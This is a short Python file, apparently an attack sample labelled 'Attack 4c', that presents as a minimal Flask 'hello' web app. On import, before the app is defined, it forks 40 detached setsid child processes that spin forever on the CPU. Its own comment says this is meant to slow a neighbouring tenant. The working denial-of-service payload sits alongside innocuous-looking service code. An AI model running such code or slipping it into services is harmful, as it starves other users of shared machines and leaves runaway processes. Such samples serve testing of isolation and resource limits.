# Attack 4c: 40 setsid children spinning on the CPU, to slow the neighbour.
import os

for _ in range(40):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break
from flask import Flask

app = Flask(__name__)


@app.route("/")
def index():
    return "hello"
